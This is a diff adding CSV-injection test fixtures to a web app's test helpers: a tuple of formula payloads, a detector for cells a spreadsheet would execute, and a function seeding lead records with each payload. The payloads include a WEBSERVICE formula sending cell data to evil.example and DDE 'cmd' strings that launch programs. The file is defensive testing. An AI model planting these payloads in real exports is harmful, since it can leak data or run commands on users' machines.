@@ -46,3 +46,53 @@ def _hashed(password: str) -> str:
 
     # A cheap hash keeps the suite fast; the real default is checked in the accounts tests.
     return generate_password_hash(password, method="pbkdf2:sha256:1000")
+
+
+# CSV injection (OWASP, and issue 17's review): each must come out of every CSV export as
+# text that a spreadsheet shows, never as a formula it runs.
+FORMULA_PAYLOADS = (
+    '=0+WEBSERVICE("http://evil.example/?"&B3)',
+    "-1+1|cmd",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example","x")',
+)
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV document that a spreadsheet would run as a formula (a plain
+    negative number is a number, not a formula)."""
+    import csv
+    import io
+    import re
+
+    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", cell)
+    ]
+
+
+def payload_leads() -> list:
+    """One lead per payload, the payload in every text field a visitor can fill."""
+    from gated.models import Lead
+
+    leads = [
+        Lead(
+            email=f"payload{number}@example.com",
+            name=payload,
+            company=payload,
+            job_title=payload,
+            source=payload,
+            first_utm_campaign=payload,
+            last_referrer=payload,
+        )
+        for number, payload in enumerate(FORMULA_PAYLOADS)
+    ]
+    db.session.add_all(leads)
+    db.session.commit()
+    return leads
